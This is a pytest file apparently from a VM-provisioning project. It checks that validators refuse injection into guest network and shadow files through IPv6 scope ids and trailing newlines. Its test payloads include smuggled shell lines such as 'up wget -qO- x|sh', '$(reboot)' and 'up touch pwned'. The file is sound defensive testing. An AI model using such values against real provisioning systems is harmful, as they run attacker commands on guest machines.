# -*- coding: utf-8 -*-
# Copyright: Maglica contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
"""Nothing can be injected into guest files (issue 10, items 1 and 2).

Each test is named after the hole it closes: IPv6 scope ids that carried shell
lines into /etc/network/interfaces and ifcfg files, and `^...$` patterns that
let a trailing newline through.
"""

from __future__ import annotations

import argparse
import ast
import ipaddress
import json
import os
import re

import pytest
from ansible.module_utils import testing
from ansible_collections.maglica.cloud.plugins.modules import maglica_vm_clone

from maglica.controller import cli
from maglica.controller import cloud
from maglica.cluster import config
from maglica.host import customize
from maglica.protocol import messages
from maglica.controller import vm
from maglica.errors import ConfigError, MaglicaError, MessageError
from maglica.host import guest_network
from maglica.host import guest

LIBRARY = os.path.dirname(os.path.dirname(messages.__file__))


def library_files():
    """Paths of the library's modules, relative to it, in every package."""
    return sorted(os.path.relpath(os.path.join(d, f), LIBRARY) for d, _dirs, files in os.walk(LIBRARY) for f in files if f.endswith('.py'))


JOB_ID = '0123456789abcdef0123456789abcdef'
# The issue's own payloads: a scope id can hold anything but `%` and `/`.
SCOPE_IDS = ['fd00::1%x\n up touch pwned', 'fd00::1%x\n up wget -qO- x|sh', 'fd00::1%$(reboot)', 'fe80::1%eth0']


def clone_job(**args):
    base = {'image': 'debian.original', 'hostname': 'web1.example.com', 'clone_mode': 'full', 'start': True}
    base.update(args)
    return {'id': JOB_ID, 'host': 'kvm1', 'action': 'vm.clone', 'args': base}


def static(**network):
    return dict({'mode': 'static', 'address': '192.0.2.10'}, **network)


# -- item 1: IPv6 scope ids ---------------------------------------------------

@pytest.mark.parametrize('value', SCOPE_IDS)
@pytest.mark.parametrize('network', [
    lambda v: static(gateway=v),
    lambda v: static(address=v, prefix=64),
    lambda v: static(dns=['192.0.2.53', v]),
], ids=['gateway', 'address', 'dns'])
def test_ipv6_scope_id_is_refused(network, value):
    with pytest.raises(MessageError, match='scope id'):
        messages.validate_job(clone_job(network=network(value)))


def test_addresses_are_written_back_re_serialised():
    """The validator hands on each address as ipaddress prints it, never the string as given."""
    given = static(address='192.0.2.10', prefix=26, gateway='192.0.2.1', dns=['192.0.2.53', '198.51.100.53'])
    network = messages.validate_job(clone_job(network=given))['args']['network']
    for key in ('address', 'gateway'):
        assert network[key] == str(ipaddress.ip_address(network[key]))
    assert network['dns'] == [str(ipaddress.ip_address(server)) for server in network['dns']]
    interfaces = guest_network.debian_interfaces('', guest.GuestSettings('web1', network), 'eth0')
    assert '    address 192.0.2.10/26\n    gateway 192.0.2.1\n    dns-nameservers 192.0.2.53 198.51.100.53\n' in interfaces


@pytest.mark.parametrize('network, field', [
    (static(address='FD00:0:0:0::A', prefix=64), 'address'),
    (static(gateway='fd00::1'), 'gateway'),
    (static(dns=['2001:db8::53']), r'dns\[0\]'),
])
def test_ipv6_static_settings_are_refused(network, field):
    """The writers put static settings in IPv4 places (ifupdown `inet`, NM [ipv4], ifcfg IPADDR): IPv6 there is garbage."""
    with pytest.raises(MessageError, match=r'network\.%s .* is not an IPv4 address' % field):
        messages.validate_job(clone_job(network=network))


def test_the_issues_scope_id_gateway_is_refused_by_the_library():
    """The issue's attempt, through the library call that modules and the CLI use: refused before anything is asked."""
    cfg = config.validate({'hosts': [{'name': 'kvm1', 'uri': 'test:///nowhere-never-asked'}], 'security': {'curve': False}})
    with pytest.raises(MessageError, match=r"job\.args\.network\.gateway 'fd00::1%x\\n up touch pwned' has a scope id"):
        cloud.clone(cfg, 'debian', 'web1',
                    network={'mode': 'static', 'address': '192.0.2.10', 'gateway': 'fd00::1%x\n up touch pwned'})


def test_the_issues_scope_id_gateway_is_refused_by_the_module(capsys):
    """maglica_vm_clone as a user calls it: it fails naming the gateway, where it answered `changed: true` before."""
    args = {'hosts': [{'name': 'kvm1', 'uri': 'test:///nowhere-never-asked'}], 'security': {'curve': False},
            'image': 'debian', 'hostname': 'web1',
            'network': {'mode': 'static', 'address': '192.0.2.10', 'gateway': 'fd00::1%x\n up touch pwned'}}
    with testing.patch_module_args(args), pytest.raises(SystemExit) as caught:
        maglica_vm_clone.main()
    result = json.loads(capsys.readouterr().out)
    assert caught.value.code == 1 and result['failed'] and not result.get('changed')
    assert 'network.gateway' in result['msg'] and 'scope id' in result['msg']


# -- item 2: trailing newlines ------------------------------------------------

@pytest.mark.parametrize('args, field', [
    ({'hostname': 'web1\n'}, 'hostname'),
    ({'image': 'debian\n'}, 'image'),
    ({'root_password_hash': '$6$x\n'}, 'root_password_hash'),
    ({'ssh_authorized_keys': ['ssh-ed25519 AAAA key\n']}, r'ssh_authorized_keys\[0\]'),
    ({'network': {'mode': 'dhcp', 'domain': 'example.com\n'}}, 'domain'),
    ({'network': {'mode': 'dhcp', 'device': 'eth0\n'}}, 'device'),
])
def test_trailing_newline_is_refused_in_clone_arguments(args, field):
    with pytest.raises(MessageError, match=field):
        messages.validate_job(clone_job(**args))


def test_trailing_newline_is_refused_in_password_hash():
    """`$6$x\\n` split root's line in /etc/shadow."""
    with pytest.raises(MessageError, match='root_password_hash'):
        messages.validate_job(clone_job(root_password_hash='$6$x\n'))


def test_trailing_newline_is_refused_in_hostname():
    with pytest.raises(MessageError, match='hostname'):
        messages.validate_job(clone_job(hostname='web1\n'))


def test_trailing_newline_is_refused_in_job_fields():
    for job in ({'id': JOB_ID + '\n', 'host': 'kvm1', 'action': 'vm.remove', 'args': {'name': 'a'}},
                {'id': JOB_ID, 'host': 'kvm1\n', 'action': 'vm.remove', 'args': {'name': 'a'}},
                {'id': JOB_ID, 'host': 'kvm1', 'action': 'vm.remove', 'args': {'name': 'a\n'}}):
        with pytest.raises(MessageError):
            messages.validate_job(job)
    with pytest.raises(MessageError):
        messages.decode_request(messages.encode({'type': 'status', 'id': JOB_ID + '\n'}))


def test_trailing_newline_is_refused_in_config_host_name():
    with pytest.raises(ConfigError, match='host name'):
        config.validate({'hosts': ['kvm1\n']})


def test_trailing_newline_is_refused_in_volume_and_job_id_arguments():
    with pytest.raises(MaglicaError, match='disk name'):
        vm.normalize_disks('web1', [{'size': '1G', 'name': 'data\n'}])
    with pytest.raises(argparse.ArgumentTypeError):
        cli._job_id_arg(JOB_ID + '\n')


def _patterns():
    """(module file, name, compiled pattern) of every module-level *_RE in the library."""
    for entry in library_files():
        tree = ast.parse(open(os.path.join(LIBRARY, entry)).read())
        for node in tree.body:
            if isinstance(node, ast.Assign) and any(isinstance(t, ast.Name) and t.id.endswith('_RE') for t in node.targets):
                yield entry, node.targets[0].id


def test_no_library_pattern_is_matched_with_match_or_search():
    """Every *_RE validates whole strings: `.match`/`.search` would let `^...$` accept a trailing newline."""
    names = set(name for _entry, name in _patterns())
    assert {'NAME_RE', 'PASSWORD_HASH_RE', 'ONE_LINE_RE', 'DOMAIN_RE', 'HOST_NAME_RE', 'DISK_NAME_RE'} <= names
    offenders = []
    for entry in library_files():
        source = open(os.path.join(LIBRARY, entry)).read()
        offenders += ['%s: %s.%s' % ((entry,) + found) for found in re.findall(r'\b(\w+_RE|self\.pattern)\.(match|search)\(', source)]
    assert offenders == []
    # And the pattern that Field.check applies is applied whole.
    assert not messages.NAME.pattern.fullmatch('web1\n')


def test_shadow_without_the_file_is_a_clear_error():
    with pytest.raises(MaglicaError, match='no /etc/shadow'):
        customize.shadow(None, '$6$x$y')
